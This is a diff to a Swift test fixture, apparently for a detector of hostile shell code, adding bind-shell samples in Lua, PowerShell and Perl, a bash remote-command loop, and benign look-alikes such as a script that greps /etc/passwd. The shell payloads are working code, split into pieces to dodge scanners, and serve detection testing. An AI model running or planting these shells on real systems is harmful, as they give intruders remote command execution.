@@ -39,6 +39,25 @@ enum MaliceSamples {
                 + "and(\"/bin/sh\"); e.Std" + "in = c; e.Run() }"
         ),
         ("terminal", "xte" + "rm -display \(address):1"),
+        (
+            "bash with variables",
+            "exec 3<>\"\(dev)$H/$P\"\nwhile read -r c <&3; do\n  ev" + "al \"$c\" >&3 2>&1\ndone\n"
+        ),
+        (
+            "lua that listens",
+            "local s = socket.bi" + "nd('*', 4242)\nlocal c = s:accept()\nwhile true do\n  local l = c:rece" + "ive()\n"
+                + "  local f = io.po" + "pen(l)\n  c:send(f:read('*a'))\nend\n"
+        ),
+        (
+            "powershell that listens",
+            "$l = [System.Net.Sockets.TcpLis" + "tener]4242\n$l.Start()\n$s = $l.AcceptTcpClient().GetStr"
+                + "eam()\n$o = (Invoke-Expre" + "ssion $d | Out-String)\n"
+        ),
+        (
+            "perl that listens",
+            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);bind(S,sockaddr_in(4242,INADDR_ANY));listen(S,3);accept(C,S);"
+                + "open(ST" + "DIN,\">&C\");open(STDOUT,\">&C\");exec(\"/bin/sh -i\");"
+        ),
     ]
 
     /// A program text in base64, as `echo … | base64 -d | sh` carries it.
@@ -87,6 +106,12 @@ enum MaliceSamples {
         ("notes.md", "Run `curl -sSf https://sh.example.org | sh` to install it.\n"),
         ("exec.js", "const m = /a(b)/.exec(text); const data = Buffer.from(body, 'base64');\n"),
         ("deploy.yml", "- hosts: all\n  tasks:\n    - ansible.builtin.user:\n        name: app\n"),
+        (
+            "release.sh",
+            "#!/bin/sh\nset -e\nrelease=$(uname -r)\ngrep -q '^root:' /etc/passwd\nprintf '[%s] done\\n' \"$release\"\n"
+        ),
+        ("Worker.go", "package main\nfunc main() { out, _ := exec.Command(name, args...).Output(); use(out) }\n"),
+        ("Report.ps1", "$files = Get-ChildItem -Path $Root -Recurse\nWrite-Host \"found`n$($files.Count)`tfiles\"\n"),
         ("Daemon.py", "os.dup2(devnull.fileno(), sys.stdin.fileno())\nsubprocess.Popen(['worker'])\n"),
     ]
 }
